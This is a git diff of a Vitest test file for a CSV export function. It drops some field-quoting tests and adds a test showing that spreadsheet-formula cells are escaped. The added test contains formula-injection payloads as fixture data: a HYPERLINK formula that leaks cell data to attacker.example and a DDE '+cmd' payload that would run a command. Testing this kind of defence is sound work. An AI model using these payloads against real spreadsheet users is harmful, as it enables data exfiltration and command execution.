@@ -1,21 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { buildCompareCsv, compareCsvFileName, csvField, type CsvCoverageCell, type CsvFigure } from './compare-csv';
-
-describe('csvField', () => {
-  it('leaves plain fields alone', () => {
-    expect(csvField('Indonesia')).toBe('Indonesia');
-    expect(csvField(34913340000)).toBe('34913340000');
-    expect(csvField(98.69)).toBe('98.69');
-    expect(csvField(null)).toBe('');
-  });
-
-  it('quotes fields with a comma, a quote or a line break, doubling the quotes (RFC 4180)', () => {
-    expect(csvField('Seoul, Korea')).toBe('"Seoul, Korea"');
-    expect(csvField('the "EPS" scheme')).toBe('"the ""EPS"" scheme"');
-    expect(csvField('line one\nline two')).toBe('"line one\nline two"');
-    expect(csvField('carriage\rreturn')).toBe('"carriage\rreturn"');
-  });
-});
+import { buildCompareCsv, compareCsvFileName, type CsvCoverageCell, type CsvFigure } from './compare-csv';
 
 describe('buildCompareCsv', () => {
   const figures: CsvFigure[] = [
@@ -106,6 +90,27 @@ describe('buildCompareCsv', () => {
     for (const row of records) expect(row).toHaveLength(17);
     expect(records[1]![11]).toBe('World Bank, via "IndexMundi", current US$');
     expect(records[2]![11]).toBe('In 87 regencies\nand 12 provinces.');
+  });
+
+  it('neutralises cells a spreadsheet would evaluate, and keeps numbers, negative ones too, as numbers', () => {
+    const hostile: CsvFigure = {
+      ...figures[0]!,
+      value: -1250.5,
+      programName: '@SUM(A1:A9)',
+      note: '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
+      sourceTitle: '+cmd|" /C calc"!A0',
+      sourceUrl: 'https://example.org/source',
+    };
+    const [, row] = buildCompareCsv([hostile], []).split('\r\n');
+    expect(row).toBe(
+      [
+        'figure,PH,Philippines,REMITTANCES_USD,Personal remittances received,USD,2020,-1250.5,TOTAL,STATISTIC',
+        `"'@SUM(A1:A9)"`,
+        `"'=HYPERLINK(""http://attacker.example/?""&A1,""Click"")"`,
+        `"'+cmd|"" /C calc""!A0"`,
+        'https://example.org/source,,,',
+      ].join(','),
+    );
   });
 
   it('writes only the header when there is nothing to compare', () => {
